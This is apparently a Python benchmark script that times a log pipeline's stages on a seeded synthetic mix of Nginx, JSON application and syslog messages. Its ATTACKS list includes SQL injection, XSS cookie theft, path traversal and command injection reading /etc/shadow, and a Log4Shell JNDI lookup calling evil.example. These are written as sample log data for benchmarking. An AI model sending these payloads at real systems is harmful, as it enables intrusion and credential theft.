"""Events/s per core of the default pipeline + bulk body on the issue-13 mix, of each stage, and
of the worker's source (Kafka messages to events, outside the pipeline's figure).

    python benchmarks/bench_mix.py [--count 200000] [--rounds 3] [--batch 1000]
    python benchmarks/bench_mix.py --write mix.bin        # the mix, NUL-separated, then exit
    python benchmarks/bench_mix.py --file mix.bin         # time NUL-separated messages instead
    python benchmarks/bench_mix.py --file raw.bin --kafka-time 2024-10-10T12:00:00Z
    python benchmarks/bench_mix.py --digest               # SHA-256 of the documents, no timing
    python benchmarks/bench_mix.py --corpus --digest      # the same over tests/corpus messages

The mix is deterministic (seeded): 50% Nginx combined access lines (3% attacks, 5% 401/403,
some credentials in query strings), 30% JSON application logs in the replaced deployment's shape
(5% with a Java or Python stack trace, 3% with a password, token or e-mail), 20% syslog (sshd,
sudo, CRON, systemd; RFC 3164 and RFC 3339 stamps). Its times spread over the day before the
Kafka time and three client addresses in ten are new ones, as in a day's logs: a mix of a few
addresses and one hour's seconds would time the stages' caches, not their work. `--file` times
other messages (the side-by-side harness's `raw.bin`, say) with `--kafka-time` as their Kafka time.
One process pinned to one core; CPU time; the collector set as the worker sets it after startup
(`collector.settle_after_startup`: `gc.freeze()`, young collections after `GC_YOUNG` net
container objects); each batch's events made and run through the pipeline in slices, as the
worker does (`logpipe.slices`; `--slice N` to time another size, `--slice 1000 --slice 250`
to time both in turn in one process), one bulk body per batch.
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import os
import platform
import random
import sys
import sysconfig
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import orjson
from confluent_kafka import TIMESTAMP_CREATE_TIME, Message

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from logpipe.collector import GC_YOUNG, settle_after_startup  # noqa: E402
from logpipe.documents import to_docs  # noqa: E402
from logpipe.metadata import events_from_messages  # noqa: E402
from logpipe.pipeline import load_pipeline  # noqa: E402
from logpipe.samples import JAVA_TRACE, PY_TRACE  # noqa: E402
from logpipe.sink import build_body  # noqa: E402
from logpipe.slices import SLICE, slices  # noqa: E402

REFERENCE = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)
REFERENCE_MS = int(REFERENCE.timestamp() * 1000)
IPS = ["203.0.113.9", "198.51.100.23", "8.8.8.8", "1.1.1.1", "81.2.69.160", "2.125.160.216"]
# First octets of public IPv4 space in use (RIPE, ARIN, APNIC, LACNIC): a day's other clients.
PUBLIC_FIRST_OCTETS = [5, 23, 31, 37, 46, 62, 66, 73, 77, 81, 89, 93, 104, 109, 121, 151, 178,
                       185, 186, 193, 201, 203, 212, 217]  # fmt: skip
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/129.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "curl/8.5.0",
    "python-requests/2.32.3",
]
PATHS = ["/", "/products/{n}", "/api/v1/orders/{n}", "/api/v2/search?q=shoes&page={n}", "/cart"]
ATTACKS = [
    "/products?id=1%27%20OR%20%271%27%3D%271",
    "/api/v2/search?q=1+UNION+ALL+SELECT+NULL,NULL,version()--",
    "/api/v2/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/static/..%2f..%2f..%2fetc%2fpasswd",
    "/x?cmd=;cat%20/etc/shadow",
    "/x?q=${jndi:ldap://evil.example/a}",
]
SECRET_QUERIES = ["/login?user=bob&password=Summer2024!", "/api/v1/me?access_token=ya29.a0AfH6SM"]


def _moment(rng: random.Random) -> datetime:
    """A time in the day before the reference, to the microsecond."""
    return datetime.fromtimestamp(REFERENCE.timestamp() - rng.random() * 86_400, UTC)


def _address(rng: random.Random) -> str:
    """A public IPv4 address, most likely one not drawn before."""
    octets = (rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254))
    return f"{rng.choice(PUBLIC_FIRST_OCTETS)}.{octets[0]}.{octets[1]}.{octets[2]}"


_pool = random.Random(4096)
RETURNING = [_address(_pool) for _ in range(4096)]  # a day's returning clients


def _client(rng: random.Random) -> str:
    """A client address: one of a few regulars one time in ten, a returning one six in ten,
    else a new one."""
    roll = rng.random()
    if roll < 0.1:
        return rng.choice(IPS)
    if roll < 0.7:
        return rng.choice(RETURNING)
    return _address(rng)


def _access(rng: random.Random) -> str:
    roll = rng.random()
    if roll < 0.03:
        path, status = rng.choice(ATTACKS), rng.choice([400, 403, 404, 200])
    elif roll < 0.04:
        path, status = rng.choice(SECRET_QUERIES), 200
    else:
        path = rng.choice(PATHS).format(n=rng.randint(1, 99999))
        status = rng.choices([200, 304, 404, 401, 403, 500], [80, 8, 5, 3, 2, 2])[0]
    method = rng.choices(["GET", "POST", "PUT"], [85, 12, 3])[0]
    stamp = _moment(rng).strftime("%d/%b/%Y:%H:%M:%S +0000")
    return (
        f'{_client(rng)} - - [{stamp}] "{method} {path} HTTP/1.1" {status} '
        f'{rng.randint(100, 90000)} "https://shop.example.com/" "{rng.choice(AGENTS)}"'
    )


def _application(rng: random.Random) -> str:
    status = rng.choices([200, 201, 401, 404, 500], [75, 8, 5, 7, 5])[0]
    record = {
        "timestamp": _moment(rng).isoformat(timespec="milliseconds"),
        "level": "ERROR" if status >= 500 else ("WARN" if status >= 400 else "INFO"),
        "message": f"order request finished with {status}",
        "user_id": f"usr_{rng.randint(1, 999)}",
        "event_type": rng.choice(["template_download", "login", "search", "checkout"]),
        "response_time": int(rng.lognormvariate(5, 1.1)),
        "path": rng.choice(PATHS).format(n=rng.randint(1, 999)),
        "status": status,
        "client_ip": _client(rng),
    }
    if status >= 500:
        record["stack_trace"] = rng.choice([JAVA_TRACE, PY_TRACE]).format(id=rng.randint(1, 999))
    if rng.random() < 0.03:
        record[rng.choice(["password", "token", "email"])] = rng.choice(
            ["hunter2", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.sig", "person7@example.com"]
        )
    return orjson.dumps(record).decode()


def _syslog(rng: random.Random) -> str:
    moment = _moment(rng)
    ip, pid = _client(rng), rng.randint(100, 99999)
    text = rng.choice(
        [
            f"sshd[{pid}]: Failed password for invalid user admin from {ip} port 50122 ssh2",
            f"sshd[{pid}]: Accepted publickey for deploy from {ip} port 50022 ssh2",
            f"sudo[{pid}]:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/ls",
            f"CRON[{pid}]: (root) CMD (run-parts /etc/cron.hourly)",
            "systemd[1]: Started Daily apt download activities.",
        ]
    )
    if rng.random() < 0.6:
        stamp = f"{moment.strftime('%b')} {moment.day:2d} {moment.strftime('%H:%M:%S')}"
    else:
        stamp = moment.isoformat(timespec="microseconds")
    return f"{stamp} web-{rng.randint(1, 6):02d} {text}"


def mix(count: int, seed: int = 20261126) -> list[str]:
    """`count` messages: 50% access, 30% JSON application, 20% syslog, reproducible by seed."""
    rng = random.Random(seed)
    makers = rng.choices([_access, _application, _syslog], [50, 30, 20], k=count)
    return [make(rng) for make in makers]


def corpus_messages() -> list[str]:
    """Every message of the real-log, security and secrets corpora under tests/corpus."""
    messages = []
    for folder in ("real_logs", "security", "secrets"):
        for path in sorted((ROOT / "tests" / "corpus" / folder).glob("*.jsonl")):
            for line in path.read_bytes().splitlines():
                if line.strip():
                    entry = orjson.loads(line)
                    text = entry.get("message") or entry.get("line") or entry.get("text")
                    if isinstance(text, str):
                        messages.append(text)
    return messages


def file_messages(path: str) -> list[str]:
    """The messages of a NUL-separated file (`--write` makes one), empty ones left out."""
    return [m.decode() for m in Path(path).read_bytes().split(b"\0") if m]


def kafka_messages(
    messages: list[str], start: int, kafka_ms: list[int] | None = None
) -> list[Message]:
    """The messages as consumed, with the mix's reference time as Kafka time (or each message's
    own in `kafka_ms`)."""
    return [
        Message(
            topic="bench",
            partition=0,
            offset=start + n,
            value=message.encode(),
            timestamp=(TIMESTAMP_CREATE_TIME, kafka_ms[n] if kafka_ms else REFERENCE_MS),
        )
        for n, message in enumerate(messages)
    ]


def fresh_events(messages: list[str], start: int, kafka_ms: list[int] | None = None) -> list[dict]:
    """Events as the Kafka source makes them (`kafka_messages`)."""
    return events_from_messages(kafka_messages(messages, start, kafka_ms))[0]


def time_source(messages: list[str], batch: int) -> float:
    """CPU seconds the worker's source takes to make the events of consumed messages, batch by
    batch (`metadata.events_from_messages`; not part of the whole pipeline's figure)."""
    spent = 0.0
    for start in range(0, len(messages), batch):
        consumed = kafka_messages(messages[start : start + batch], start)
        began = time.process_time()
        made = events_from_messages(consumed)
        spent += time.process_time() - began
        del made  # freed outside the clock: the pipeline's figure counts freeing events
    return spent


def sliced_events(
    messages: list[str], batch: int, size: int, kafka_ms: list[int] | None = None
) -> Iterator[tuple[bool, list[dict]]]:
    """Each batch's events slice by slice, made as the worker makes them (`logpipe.slices`): the
    next slice's only once the last one's are let go; (last slice of its batch?, events)."""
    for start in range(0, len(messages), batch):
        times = kafka_ms[start : start + batch] if kafka_ms else None
        parts = list(slices(kafka_messages(messages[start : start + batch], start, times), size))
        for number, part in enumerate(parts, 1):
            yield number == len(parts), events_from_messages(part)[0]


def time_whole(
    pipeline, messages: list[str], batch: int, kafka_ms: list[int] | None = None, size: int = SLICE
) -> float:
    """CPU seconds for the whole pipeline, documents, bulk body and freeing the batch, batch by
    batch, each run slice by slice as the worker runs it (making the events is outside the
    clock: `time_source`)."""
    spent = 0.0
    docs: list = []
    for last, events in sliced_events(messages, batch, size, kafka_ms):
        began = time.process_time()
        docs += to_docs(pipeline(events), "bench")
        del events  # freeing the slice is the loop's work too
        if last:
            build_body(docs)
            docs = []
        spent += time.process_time() - began
    return spent


def time_stages(
    pipeline, messages: list[str], batch: int, kafka_ms: list[int] | None = None, size: int = SLICE
) -> dict[str, float]:
    """CPU seconds per stage (condition included), each stage timed in place, slice by slice."""
    spent = {stage.name: 0.0 for stage in pipeline.stages}
    singles = [type(pipeline)(name=pipeline.name, stages=[stage]) for stage in pipeline.stages]
    for _last, events in sliced_events(messages, batch, size, kafka_ms):
        for single in singles:
            began = time.process_time()
            events = single(events)
            spent[single.stages[0].name] += time.process_time() - began
        del events
    return spent


def digest(
    pipeline, messages: list[str], batch: int, kafka_ms: list[int] | None = None, size: int = SLICE
) -> str:
    """SHA-256 over every document (index, id, source) and the count dropped: a speed change
    that leaves the output alone leaves this alone."""
    summed = hashlib.sha256()
    for _last, events in sliced_events(messages, batch, size, kafka_ms):
        for doc in to_docs(pipeline(events), "bench"):
            summed.update(f"{doc.index}\0{doc.id}\0".encode() + doc.source + b"\n")
    summed.update(f"dropped={pipeline.dropped}".encode())
    return summed.hexdigest()


def machine() -> str:
    """The CPU and the interpreter the figures are of: they differ by 2-3x between machines."""
    cpu: dict[str, str] = {}  # the first core's fields
    with contextlib.suppress(OSError):
        for line in Path("/proc/cpuinfo").read_text().splitlines():
            key, _, value = line.partition(":")
            cpu.setdefault(key.strip(), value.strip())
    model = cpu.get("model name", "unknown CPU")
    if "cpu MHz" in cpu:
        model += f" at {float(cpu['cpu MHz']):,.0f} MHz"
    flags = sysconfig.get_config_var("CONFIG_ARGS") or ""
    chosen = [f for f in ("--enable-optimizations", "--with-lto") if f in flags]
    build = "configured with " + " ".join(chosen) if chosen else "no PGO or LTO in its configure"
    version = platform.python_version()
    return f"{model}; Python {version} ({build}, {_libpython()}; {sys.executable})"


def _libpython() -> str:
    """Whether the interpreter runs from a shared libpython (its calls between its own functions
    go through the PLT unless built with -fno-semantic-interposition) or has it built in."""
    try:
        maps = Path("/proc/self/maps").read_text()
    except OSError:
        return "libpython unknown"
    return "shared libpython" if "/libpython3" in maps else "libpython built in"


def _instant_ms(text: str) -> int:
    """Epoch milliseconds of `--kafka-time`: digits as they are, else ISO 8601 (naive is UTC)."""
    if text.isdigit():
        return int(text)
    try:
        moment = datetime.fromisoformat(text)
    except ValueError:
        raise argparse.ArgumentTypeError(
            f"{text!r} is neither epoch milliseconds nor an ISO 8601 time"
        ) from None
    if moment.tzinfo is None:
        moment = moment.replace(tzinfo=UTC)
    return int(moment.timestamp() * 1000)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--pipeline", default="default")
    parser.add_argument("--count", type=int, default=200_000)
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--batch", type=int, default=1_000)
    parser.add_argument(
        "--slice",
        type=int,
        action="append",
        help=f"events per pipeline run (default: the worker's, {SLICE}); given more than once, "
        "the whole pipeline is timed with each size in turn, round by round, in one process",
    )
    parser.add_argument("--file", help="NUL-separated messages to time instead of the mix")
    parser.add_argument("--write", help="write the mix NUL-separated to this file and exit")
    parser.add_argument("--corpus", action="store_true", help="the tests/corpus messages")
    parser.add_argument("--digest", action="store_true", help="print the documents' SHA-256 only")
    parser.add_argument(
        "--kafka-time",
        type=_instant_ms,
        help="every message's Kafka time (ISO 8601 or epoch ms; default: the mix's reference, "
        f"{REFERENCE.isoformat()}): the timestamp stage accepts times up to 30 days before it",
    )
    args = parser.parse_args()
    sizes = args.slice or [SLICE]
    if args.write:
        Path(args.write).write_bytes(b"\0".join(m.encode() for m in mix(args.count)))
        print(f"wrote {args.count:,} messages to {args.write}")
        return 0
    if hasattr(os, "sched_setaffinity"):
        os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
    if args.corpus:
        messages = corpus_messages()
    elif args.file:
        messages = file_messages(args.file)
    else:
        messages = mix(args.count)
    pipeline = load_pipeline(args.pipeline)
    kafka_ms = [args.kafka_time] * len(messages) if args.kafka_time is not None else None
    if args.digest:
        summed = digest(pipeline, messages, args.batch, kafka_ms, sizes[0])
        print(f"{len(messages):,} messages -> documents sha256 {summed}")
        return 0
    # as worker.py after startup: the pipeline and the mix stay out of full passes, and a batch in
    # flight is not rescanned by young collections
    settle_after_startup()
    wholes = {size: float("inf") for size in sizes}
    for _ in range(args.rounds):  # sizes take turns, so each meets the machine's same moments
        for size in sizes:
            wholes[size] = min(
                wholes[size], time_whole(pipeline, messages, args.batch, kafka_ms, size)
            )
    stages: dict[str, float] = {}
    for _ in range(max(1, args.rounds - 1)):
        for name, seconds in time_stages(
            pipeline, messages, args.batch, kafka_ms, sizes[0]
        ).items():
            stages[name] = min(stages.get(name, seconds), seconds)
    print(
        f"pipeline {pipeline.name}: {len(messages):,} events in batches of {args.batch:,} run in "
        f"slices of {sizes[0]:,}, "
        f"best of {args.rounds} rounds, CPU time of one process pinned to one core, "
        f"collector as in the worker (gc.freeze() after startup, young threshold {GC_YOUNG:,})"
    )
    print(f"machine: {machine()}")
    for name, seconds in stages.items():
        print(f"  stage {name:34s} {len(messages) / max(seconds, 1e-9):>12,.0f} events/s")
    for size, whole in wholes.items():
        label = "whole pipeline + bulk body" + (f", slices of {size:,}" if len(sizes) > 1 else "")
        print(f"  {label:40s} {len(messages) / whole:>12,.0f} events/s")
    source = min(time_source(messages, args.batch) for _ in range(args.rounds))
    print(f"  {'(worker) Kafka messages -> events':40s} {len(messages) / source:>12,.0f} events/s")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
